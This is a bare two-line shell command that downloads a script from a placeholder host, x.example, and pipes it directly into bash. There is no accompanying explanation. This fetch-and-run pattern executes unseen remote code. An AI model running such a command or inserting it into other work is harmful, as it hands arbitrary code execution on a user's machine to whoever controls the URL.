curl https://x.example/s \
  | bash
